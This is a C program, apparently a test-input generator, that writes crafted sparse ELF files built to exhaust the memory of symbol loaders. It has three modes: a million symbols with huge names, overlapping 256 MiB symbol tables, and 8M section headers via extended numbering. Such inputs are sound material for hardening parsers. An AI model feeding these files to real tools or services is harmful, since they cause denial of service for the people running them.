// SPDX-License-Identifier: Apache-2.0
/*
 * Writes ELF files built to blow up a symbol loader's memory, each small on
 * disk (sparse) but large in what it announces:
 *   manysyms  1.1M function symbols sharing one 4000-byte name (26 MB)
 *   overlap   four .symtab sections over the same 256 MiB hole (16 KiB on
 *             disk)
 *   xnum      8M section headers through extended numbering (12 KiB on
 *             disk)
 * Usage: elfbomb MODE OUT
 */
#include <elf.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void die(const char *m)
{
	perror(m);
	exit(1);
}

static void put(int fd, const void *b, size_t n, off_t off)
{
	if (pwrite(fd, b, n, off) != (ssize_t)n)
		die("pwrite");
}

/* ELF header + one executable PT_LOAD over the first page. */
static void header(int fd, uint64_t shoff, uint16_t shnum, uint16_t shstrndx)
{
	Elf64_Ehdr eh;
	Elf64_Phdr ph;

	memset(&eh, 0, sizeof(eh));
	memcpy(eh.e_ident, ELFMAG, SELFMAG);
	eh.e_ident[EI_CLASS] = ELFCLASS64;
	eh.e_ident[EI_DATA] = ELFDATA2LSB;
	eh.e_ident[EI_VERSION] = EV_CURRENT;
	eh.e_type = ET_DYN;
	eh.e_machine = EM_X86_64;
	eh.e_version = EV_CURRENT;
	eh.e_phoff = sizeof(eh);
	eh.e_shoff = shoff;
	eh.e_ehsize = sizeof(eh);
	eh.e_phentsize = sizeof(ph);
	eh.e_phnum = 1;
	eh.e_shentsize = sizeof(Elf64_Shdr);
	eh.e_shnum = shnum;
	eh.e_shstrndx = shstrndx;
	put(fd, &eh, sizeof(eh), 0);
	memset(&ph, 0, sizeof(ph));
	ph.p_type = PT_LOAD;
	ph.p_flags = PF_R | PF_X;
	ph.p_filesz = ph.p_memsz = 4096;
	ph.p_align = 4096;
	put(fd, &ph, sizeof(ph), sizeof(eh));
}

static const char shstr[] = "\0.symtab\0.strtab\0.shstrtab";

static void manysyms(int fd)
{
	const uint64_t n = 1100000, name = 4000;
	uint64_t symoff = 4096, stroff = symoff + n * sizeof(Elf64_Sym);
	uint64_t shstroff = stroff + name + 2, shoff = (shstroff + 64) & ~7ull;
	Elf64_Sym *syms = calloc(n, sizeof(*syms));
	char *str = malloc(name + 2);
	Elf64_Shdr sh[4];

	if (!syms || !str)
		die("malloc");
	for (uint64_t i = 1; i < n; i++) {
		syms[i].st_name = 1;
		syms[i].st_info = ELF64_ST_INFO(STB_GLOBAL, STT_FUNC);
		syms[i].st_shndx = 1;
		syms[i].st_value = 0x1000 + i * 16;
		syms[i].st_size = 16;
	}
	str[0] = '\0';
	memset(str + 1, 'f', name);
	str[name + 1] = '\0';
	memset(sh, 0, sizeof(sh));
	sh[1] = (Elf64_Shdr){.sh_name = 1,
			     .sh_type = SHT_SYMTAB,
			     .sh_offset = symoff,
			     .sh_size = n * sizeof(Elf64_Sym),
			     .sh_link = 2,
			     .sh_entsize = sizeof(Elf64_Sym)};
	sh[2] = (Elf64_Shdr){.sh_name = 9,
			     .sh_type = SHT_STRTAB,
			     .sh_offset = stroff,
			     .sh_size = name + 2};
	sh[3] = (Elf64_Shdr){.sh_name = 17,
			     .sh_type = SHT_STRTAB,
			     .sh_offset = shstroff,
			     .sh_size = sizeof(shstr)};
	header(fd, shoff, 4, 3);
	put(fd, syms, n * sizeof(Elf64_Sym), (off_t)symoff);
	put(fd, str, name + 2, (off_t)stroff);
	put(fd, shstr, sizeof(shstr), (off_t)shstroff);
	put(fd, sh, sizeof(sh), (off_t)shoff);
}

static void overlap(int fd)
{
	const uint64_t big = 256ull << 20;
	Elf64_Shdr sh[7];
	uint64_t shoff = 8192, end = 4096 + big;

	memset(sh, 0, sizeof(sh));
	for (int i = 1; i <= 4; i++)
		sh[i] = (Elf64_Shdr){.sh_name = 1,
				     .sh_type = SHT_SYMTAB,
				     .sh_offset = 4096,
				     .sh_size = big,
				     .sh_link = 5,
				     .sh_entsize = sizeof(Elf64_Sym)};
	sh[5] = (Elf64_Shdr){.sh_name = 9,
			     .sh_type = SHT_STRTAB,
			     .sh_offset = 4096,
			     .sh_size = big};
	sh[6] = (Elf64_Shdr){.sh_name = 17,
			     .sh_type = SHT_STRTAB,
			     .sh_offset = 12288,
			     .sh_size = sizeof(shstr)};
	header(fd, shoff, 7, 6);
	put(fd, sh, sizeof(sh), (off_t)shoff);
	put(fd, shstr, sizeof(shstr), 12288);
	if (ftruncate(fd, (off_t)end))
		die("ftruncate");
}

static void xnum(int fd)
{
	const uint64_t n = 8u << 20;
	Elf64_Shdr sh0;
	uint64_t shoff = 8192;

	memset(&sh0, 0, sizeof(sh0));
	sh0.sh_size = n; /* the real count */
	header(fd, shoff, 0, 0);
	put(fd, &sh0, sizeof(sh0), (off_t)shoff);
	if (ftruncate(fd, (off_t)(shoff + n * sizeof(Elf64_Shdr))))
		die("ftruncate");
}

int main(int argc, char **argv)
{
	int fd;

	if (argc != 3) {
		fprintf(stderr, "usage: elfbomb manysyms|overlap|xnum OUT\n");
		return 2;
	}
	fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		die(argv[2]);
	if (!strcmp(argv[1], "manysyms"))
		manysyms(fd);
	else if (!strcmp(argv[1], "overlap"))
		overlap(fd);
	else if (!strcmp(argv[1], "xnum"))
		xnum(fd);
	else
		return 2;
	if (close(fd))
		die("close");
	return 0;
}
